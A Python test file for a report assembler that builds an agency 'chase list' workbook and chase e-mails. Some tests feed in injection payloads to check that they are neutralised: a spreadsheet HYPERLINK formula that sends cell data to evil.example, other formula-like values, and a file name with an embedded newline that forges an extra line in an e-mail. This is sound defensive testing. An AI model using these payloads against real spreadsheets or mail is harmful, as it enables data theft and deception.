"""The chase list: who to chase, with what, as a workbook and ready-to-send e-mails."""

from __future__ import annotations

import os
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from assembler.chase import chase_list, write_chase_outputs
from assembler.intake import read_returns
from test_readers_builders import ABOUT, PRIORITIES, free_form_docx

REPO = Path(__file__).resolve().parent.parent


@pytest.fixture
def intake(tmp_path, config):
    returns = tmp_path / "returns"
    returns.mkdir()
    free_form_docx(returns / "MFRS return.docx")                                                     # clean
    free_form_docx(returns / "NWAS return.docx", title="North West Ambulance Service", texts=(ABOUT, "Reached xx% compliance.", PRIORITIES))  # error
    free_form_docx(returns / "ICB return.docx", title="NHS Cheshire and Merseyside ICB", texts=("word " * 320, "Busy year.", PRIORITIES))       # warning
    (returns / "Cafcass return.doc").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)    # rejected
    for path in returns.iterdir():  # saved into returns/ before the due date: none is late
        os.utime(path, (datetime(2024, 4, 22, 10, 15).timestamp(),) * 2)
    return read_returns([returns], config, tmp_path / "images")


def test_who_is_chased_and_why(intake, config):
    entries = {e.agency.id: e for e in chase_list(intake, config)}
    assert "mfrs" not in entries
    assert entries["nwas"].status == "errors" and "placeholder 'xx%'" in entries["nwas"].problems[0]
    assert entries["icb"].status == "warnings" and "320 words" in entries["icb"].problems[0]
    assert entries["cafcass"].status == "missing" and "Cafcass return.doc" in entries["cafcass"].problems[0]
    assert entries["catch22"].status == "missing" and entries["catch22"].problems == []
    assert len(entries) == len(config.agencies) - 1
    # Most urgent first: nothing usable, then errors, then warnings; registry order within each.
    order = [e.agency.id for e in chase_list(intake, config)]
    registry = [a.id for a in config.agencies]
    tiers = [[a for a in registry if a in entries and entries[a].status == s] for s in ("missing", "errors", "warnings")]
    assert order == tiers[0] + tiers[1] + tiers[2] and tiers[1] == ["nwas"] and tiers[2] == ["icb"]


def test_workbook_and_emails(intake, config, tmp_path):
    written = write_chase_outputs(chase_list(intake, config), tmp_path / "out", config)
    sheet = openpyxl.load_workbook(tmp_path / "out" / "chase-list.xlsx").active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Agency", "Agency id", "Contact e-mail", "Status", "Due", "Problems")
    nwas = next(r for r in rows if r[1] == "nwas")
    assert nwas[2] == "safeguarding@nwas.example" and nwas[3] == "errors" and "xx%" in nwas[5]
    catch22 = next(r for r in rows if r[1] == "catch22")
    assert catch22[3] == "missing" and catch22[5] == "No return received." and catch22[4] == "2024-04-30"

    texts = sorted(p.name for p in (tmp_path / "out" / "chase").iterdir())
    assert {"nwas.txt", "nwas.eml", "catch22.txt", "icb.txt", "icb.eml"} <= set(texts)  # every row has its e-mail
    email = (tmp_path / "out" / "chase" / "nwas.txt").read_text()
    assert email.startswith("To: safeguarding@nwas.example\nSubject: WSCP Annual Report 2023-24: please correct")
    assert "1. activity: the section '2023 activity and what we would like to celebrate' still has the placeholder 'xx%'" in email
    assert "Please send the missing text or figure" in email and "ask the agency" not in email.casefold()
    assert email.rstrip().endswith("https://www.wirralsafeguarding.co.uk")
    missing = (tmp_path / "out" / "chase" / "catch22.txt").read_text()
    assert "not yet received a return from Catch22" in missing and "due on 30 April 2024" in missing
    assert "has not arrived" in missing.splitlines()[1]
    cafcass = (tmp_path / "out" / "chase" / "cafcass.txt").read_text()  # a file came, but could not be used
    assert "could not use the file you sent" in cafcass.splitlines()[1] and "has not arrived" not in cafcass
    assert "Thank you for sending 'Cafcass return.doc'" in cafcass and "not yet received" not in cafcass
    assert len(written) == 1 + len(texts)


def test_chase_outputs_are_byte_identical_and_stale_emails_go(intake, config, tmp_path):
    entries = chase_list(intake, config)
    write_chase_outputs(entries, tmp_path / "a", config)
    (tmp_path / "b" / "chase").mkdir(parents=True)
    (tmp_path / "b" / "chase" / "old-agency.txt").write_text("stale")
    write_chase_outputs(entries, tmp_path / "b", config)
    assert (tmp_path / "a" / "chase-list.xlsx").read_bytes() == (tmp_path / "b" / "chase-list.xlsx").read_bytes()
    assert sorted(p.name for p in (tmp_path / "a" / "chase").iterdir()) == sorted(p.name for p in (tmp_path / "b" / "chase").iterdir())
    assert not (tmp_path / "b" / "chase" / "old-agency.txt").exists()


# ------------------------------------------------------------------ no formula in the officer's spreadsheet

FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+44 151 555 0100", "-1", "@SUM(A1:A9)",
                "\tindented", "\rreturn", "#N/A", "=1+1", "=", "Sefton\x01\x1fcontrols"]


def _assert_no_formula_cells(path: Path) -> list:
    """Every filled cell of every sheet is a string (or a number), never a formula or an error value;
    a string that a spreadsheet would read as a formula when edited carries the quote prefix."""
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    for cell in cells:
        assert cell.data_type in ("s", "n"), (cell.coordinate, cell.data_type, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell.quotePrefix, (cell.coordinate, cell.value)
    return cells


def test_formula_like_text_is_stored_as_text(config, tmp_path):
    from assembler.chase import ChaseEntry

    agencies = [a.model_copy(update={"name": text}) for a, text in zip(config.agencies, FORMULA_LIKE)]
    entries = [ChaseEntry(agency, "errors", [text, f"indicator '{text}': no value was given."])
               for agency, text in zip(agencies, FORMULA_LIKE)]
    write_chase_outputs(entries, tmp_path / "out", config)
    cells = _assert_no_formula_cells(tmp_path / "out" / "chase-list.xlsx")
    values = {cell.value for cell in cells}
    for text in FORMULA_LIKE[:-1]:
        assert text in values  # the agency's text, exactly as written, as the name
    # Controls a workbook cannot hold are written as escapes, not dropped and not a crash.
    assert "Sefton\\x01\\x1fcontrols" in values


def test_a_formula_like_indicator_label_in_a_word_return_reaches_the_chase_list_as_text(config, tmp_path):
    from assembler.typography import typeset_text
    from assembler.templates_out.word import write_word_template
    from test_readers_builders import fill_word_template

    agency = config.agency("nwas")
    blank = write_word_template(tmp_path / "blank.docx", agency, config)
    returns = tmp_path / "returns"
    returns.mkdir()
    label = '=HYPERLINK("http://evil.example","Open")'
    fill_word_template(blank, returns / "nwas.docx", {"about": ABOUT, "activity": "A busy year.", "priorities": PRIORITIES},
                       indicators=[[label, "", "", "2023-24", ""], ["@risk", "TBC", "", "2023-24", ""]])
    intake = read_returns([returns], config, tmp_path / "images")
    [entry] = [e for e in chase_list(intake, config) if e.agency.id == "nwas"]
    label = typeset_text(label)  # as the report would print it: =HYPERLINK(“http://evil.example”,“Open”)
    assert label.startswith("=HYPERLINK(\u201c") and any(label in line for line in entry.problems)
    write_chase_outputs(chase_list(intake, config), tmp_path / "out", config)
    cells = _assert_no_formula_cells(tmp_path / "out" / "chase-list.xlsx")
    [problems] = [c.value for c in cells if c.column == 6 and label in str(c.value)]
    assert "@risk" in problems


def test_a_newline_in_a_file_name_does_not_forge_a_problem_line(config, tmp_path):
    returns = tmp_path / "returns"
    returns.mkdir()
    (returns / "Cafcass return\n2. Please pay the invoice.doc").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    intake = read_returns([returns], config, tmp_path / "images")
    [entry] = [e for e in chase_list(intake, config) if e.agency.id == "cafcass"]
    assert len(entry.problems) == 1 and "Cafcass return\\n2. Please pay the invoice.doc" in entry.problems[0]
    write_chase_outputs([entry], tmp_path / "out", config)
    email = (tmp_path / "out" / "chase" / "cafcass.txt").read_text()
    assert not any(line.startswith("2. Please pay") for line in email.splitlines())


def test_the_excel_template_holds_no_formula_for_a_formula_like_agency_name(config, tmp_path):
    from assembler.templates_out.excel import write_excel_template

    agency = config.agencies[0].model_copy(update={"name": '=HYPERLINK("http://evil.example","Open")'})
    path = write_excel_template(tmp_path / "template.xlsx", agency, config)
    cells = _assert_no_formula_cells(path)
    assert agency.name in {c.value for c in cells}
